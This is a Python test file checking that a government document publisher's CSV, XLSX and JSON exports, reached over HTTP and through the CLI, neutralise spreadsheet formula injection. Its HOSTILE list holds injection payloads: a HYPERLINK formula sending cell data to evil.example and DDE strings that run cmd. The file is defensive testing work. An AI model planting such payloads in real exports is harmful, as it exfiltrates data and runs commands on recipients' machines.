"""Tabular exports neutralise spreadsheet formulas, through the real HTTP endpoints and the CLI.

An editor's title, 发文机关 or fee item beginning with `=`, `+`, `-`, `@`, a tab, a carriage
return or a full-width form must reach a citizen's spreadsheet as text: CSV and XLSX cells
get the leading `'`, XLSX text cells are string cells (openpyxl's data_type 's', never 'f'),
JSON keeps the exact string."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from publisher.compliance.tabular import FORMULA_STARTS, Table, as_text, render
from publisher.domain.clock import local_today
from publisher.editorial.service import Service
from tests.conftest import Team
from tests.publisher.cli_support import cli_env, run
from tests.publisher.compliance.support import release
from tests.publisher.compliance.web_support import base, runtime  # noqa: F401
from tests.samples import policy

NUMBER = re.compile(r"-?\d+(\.\d+)?")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def hostile_items(service: Service, team: Team) -> dict[str, str]:
    """Titles and issuing bodies an editor controls, one hostile value each."""
    titles = {}
    for i, value in enumerate(HOSTILE):
        title = f"{value}关于第{i}号的通知"
        release(service, team, policy(ref=f"h{i}", doc_number=None, title=title, issuing_body=value))
        titles[title.strip()] = value.strip()  # the service strips edge whitespace of text fields
    return titles


def fee_item(service: Service, team: Team) -> None:
    release(
        service,
        team,
        {
            "ref": "fee-h",
            "type": "fee_change",
            "title": "关于调整行政事业性收费目录的通知",
            "issue_date": "2026-11-01",
            "subject": "财政\\收费管理",
            "catalogue": "行政事业性收费目录",
            "effective_date": "2026-01-01",
            "changes": [
                {"action": "新增", "item": "=1+1", "department": "@SUM(A1)", "new_standard": "-每本10元"}
            ],
            "body_html": "<p>见附表。</p>",
        },
    )


def assert_text_cells(xlsx: bytes) -> list[list[object]]:
    ws = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    rows = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
        rows.append([c.value for c in row])
    return rows


def assert_csv_safe(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            # a plain number (a negative count) is a number to a spreadsheet, not a formula
            assert NUMBER.fullmatch(value) or not value.startswith(FORMULA_STARTS), value
    return rows


def test_catalogue_exports_over_http(service: Service, team: Team, base: str) -> None:  # noqa: F811
    titles = hostile_items(service, team)
    with httpx.Client(base_url=base) as client:
        xlsx = client.get("/catalogue.xlsx").content
        text = client.get("/catalogue.csv").content
        doc = client.get("/catalogue.json").json()
    sheet = assert_text_cells(xlsx)
    rows = assert_csv_safe(text)
    # the value is all there, behind the text mark
    flat = {str(v) for r in sheet for v in r} | {v for r in rows for v in r}
    for title, value in titles.items():
        assert "'" + title in flat and "'" + value in flat
    # JSON: the exact strings, typed as strings
    assert {r["title"] for r in doc["rows"]} == set(titles)
    assert {r["issuing_body"] for r in doc["rows"]} == set(titles.values())


def test_fee_catalogue_exports_over_http(service: Service, team: Team, base: str) -> None:  # noqa: F811
    fee_item(service, team)
    with httpx.Client(base_url=base) as client:
        sheet = assert_text_cells(client.get("/fees/administrative-fees.xlsx").content)
        assert ["'=1+1", "'@SUM(A1)", "'-每本10元"] == sheet[1][:3]
        assert_csv_safe(client.get("/fees/administrative-fees.csv").content)
        assert_csv_safe(client.get("/fees/history.csv").content)
        assert_text_cells(client.get("/fees/history.xlsx").content)
        assert_csv_safe(client.get(f"/reports/annual/{local_today().year}.csv").content)


def test_catalogue_export_through_the_cli(service: Service, team: Team, tmp_path: Path, db_url: str) -> None:
    titles = hostile_items(service, team)
    env = cli_env(tmp_path, db_url)
    for fmt in ("xlsx", "csv", "json"):
        out = tmp_path / f"catalogue.{fmt}"
        result = run(env, "compliance", "catalogue", "--format", fmt, "-o", str(out))
        assert result.exit_code == 0, result.output
        if fmt == "xlsx":
            flat = {str(v) for r in assert_text_cells(out.read_bytes()) for v in r}
        elif fmt == "csv":
            flat = {v for r in assert_csv_safe(out.read_bytes()) for v in r}
        else:
            assert {r["title"] for r in json.loads(out.read_bytes())["rows"]} == set(titles)
            continue
        assert all("'" + t in flat for t in titles), fmt


@pytest.mark.parametrize("value", [*HOSTILE, "=", "-", "\t"])
def test_every_formula_start_is_text(value: str) -> None:
    table = Table("t", [("v", "值")], [{"v": value}, {"v": -5}, {"v": 3.5}])
    sheet = assert_text_cells(render(table, "xlsx"))
    assert sheet[1:] == [["'" + value], [-5], [3.5]]  # numbers stay numbers
    assert assert_csv_safe(render(table, "csv"))[1] == ["'" + value]
    assert as_text("政务公开 = 常态") == "政务公开 = 常态"
